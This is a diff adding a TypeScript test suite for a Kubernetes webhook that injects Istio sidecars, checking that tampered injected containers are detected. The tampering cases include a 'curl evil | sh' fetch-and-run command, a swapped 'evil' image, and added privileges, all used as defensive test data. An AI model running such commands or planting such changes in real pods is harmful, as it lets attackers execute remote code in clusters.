@@ -1,0 +1,114 @@
+import assert from 'node:assert/strict';
+import { describe, test } from 'node:test';
+import { injectPod } from '../../src/inject/inject.js';
+import { workloadOfPod } from '../../src/inject/owner.js';
+import { isInjectedContainer } from '../../src/inject/verify.js';
+import type { JsonObject } from '../../src/util/json.js';
+import { fixtureConfig } from './helpers.js';
+
+const config = fixtureConfig().injection;
+
+/** A Pod as the webhook receives it: the API server has already defaulted the port protocol. */
+function appPod(annotations: Record<string, string> = {}): JsonObject {
+  return {
+    apiVersion: 'v1',
+    kind: 'Pod',
+    metadata: { name: 'web', annotations },
+    spec: {
+      containers: [
+        { name: 'web', image: 'web:1', ports: [{ name: 'http', containerPort: 8080, protocol: 'TCP' }], readinessProbe: { httpGet: { path: '/ready', port: 'http' } } },
+      ],
+    },
+  };
+}
+
+function injected(pod: JsonObject, injection = config): JsonObject {
+  return injectPod({ pod, namespace: 'shop', workload: workloadOfPod(pod, 'shop'), config: injection });
+}
+
+type Container = JsonObject & { env?: JsonObject[]; ports?: JsonObject[]; securityContext?: JsonObject; args?: string[] };
+
+function container(pod: JsonObject, list: 'initContainers' | 'containers', name: string): Container {
+  return ((pod['spec'] as JsonObject)[list] as Container[]).find((c) => c['name'] === name)!;
+}
+
+/** What the API server adds when it stores the Pod. */
+function withApiServerDefaults(pod: JsonObject): JsonObject {
+  const out = structuredClone(pod);
+  const spec = out['spec'] as JsonObject;
+  for (const list of ['initContainers', 'containers'] as const) {
+    for (const c of (spec[list] as Container[] | undefined) ?? []) {
+      c['terminationMessagePath'] = '/dev/termination-log';
+      c['terminationMessagePolicy'] = 'File';
+      c['imagePullPolicy'] = 'IfNotPresent';
+      for (const port of c.ports ?? []) port['protocol'] ??= 'TCP';
+      for (const env of c.env ?? []) {
+        const fieldRef = (env['valueFrom'] as JsonObject | undefined)?.['fieldRef'] as JsonObject | undefined;
+        if (fieldRef) fieldRef['apiVersion'] = 'v1';
+      }
+      for (const probe of ['readinessProbe', 'startupProbe'] as const) {
+        const p = c[probe] as JsonObject | undefined;
+        if (p) {
+          p['successThreshold'] = 1;
+          (p['httpGet'] as JsonObject)['scheme'] = 'HTTP';
+        }
+      }
+    }
+  }
+  return out;
+}
+
+describe('isInjectedContainer', () => {
+  const pod = injected(appPod({ 'prometheus.io/port': '9102' }));
+
+  test('ztgate-injected istio-init and istio-proxy are recognised, also as the API server stores them', () => {
+    for (const candidate of [pod, withApiServerDefaults(pod)]) {
+      assert.equal(isInjectedContainer(candidate, 'istio-init', 'initContainers', 'shop', config), true);
+      assert.equal(isInjectedContainer(candidate, 'istio-proxy', 'initContainers', 'shop', config), true);
+    }
+  });
+
+  test('classic layout: the proxy is a regular container', () => {
+    const classic = injected(appPod({ 'sidecar.istio.io/nativeSidecar': 'false' }));
+    assert.equal(isInjectedContainer(classic, 'istio-proxy', 'containers', 'shop', config), true);
+    assert.equal(isInjectedContainer(classic, 'istio-proxy', 'initContainers', 'shop', config), false);
+    assert.equal(isInjectedContainer(classic, 'istio-init', 'initContainers', 'shop', config), true);
+  });
+
+  const TAMPERED: [string, (pod: JsonObject) => void][] = [
+    ['an added capability', (p) => ((container(p, 'initContainers', 'istio-init').securityContext!['capabilities'] as JsonObject)['add'] as string[]).push('SYS_ADMIN')],
+    ['an added command', (p) => (container(p, 'initContainers', 'istio-init')['command'] = ['sh', '-c', 'curl evil | sh'])],
+    ['changed arguments', (p) => (container(p, 'initContainers', 'istio-init').args![6] = '0')],
+    ['another image', (p) => (container(p, 'initContainers', 'istio-init')['image'] = 'evil/proxyv2:1.28.0')],
+    ['privileged', (p) => (container(p, 'initContainers', 'istio-init').securityContext!['privileged'] = true)],
+    ['no status annotation', (p) => delete ((p['metadata'] as JsonObject)['annotations'] as JsonObject)['sidecar.istio.io/status']],
+    ['a status annotation that is not JSON', (p) => (((p['metadata'] as JsonObject)['annotations'] as JsonObject)['sidecar.istio.io/status'] = '{')],
+    ['a status annotation not listing it', (p) => (((p['metadata'] as JsonObject)['annotations'] as JsonObject)['sidecar.istio.io/status'] = '{"initContainers":["istio-proxy"]}')],
+    ['a non-default value the API server would not write', (p) => (container(p, 'initContainers', 'istio-init')['imagePullPolicy'] = 'Never')],
+  ];
+  for (const [name, tamper] of TAMPERED) {
+    test(`istio-init with ${name} is not ztgate's`, () => {
+      const copy = structuredClone(pod);
+      tamper(copy);
+      assert.equal(isInjectedContainer(copy, 'istio-init', 'initContainers', 'shop', config), false);
+    });
+  }
+
+  test('a user container merely named istio-init is not ztgate\'s', () => {
+    const user = appPod();
+    (user['spec'] as JsonObject)['initContainers'] = [{ name: 'istio-init', image: 'docker.io/istio/proxyv2:1.28.0', securityContext: { capabilities: { add: ['NET_ADMIN'] } } }];
+    assert.equal(isInjectedContainer(user, 'istio-init', 'initContainers', 'shop', config), false);
+  });
+
+  test('istio-init customised through an override is judged like any container', () => {
+    const custom = appPod();
+    (custom['spec'] as JsonObject)['initContainers'] = [{ name: 'istio-init', image: 'auto', securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }];
+    const result = injected(custom);
+    assert.equal(isInjectedContainer(result, 'istio-init', 'initContainers', 'shop', config), false);
+    assert.equal(isInjectedContainer(result, 'istio-proxy', 'initContainers', 'shop', config), true);
+  });
+
+  test('a Pod injected under another configuration does not match the current one', () => {
+    assert.equal(isInjectedContainer(pod, 'istio-init', 'initContainers', 'shop', fixtureConfig({ tag: '1.29.0' }).injection), false);
+  });
+});
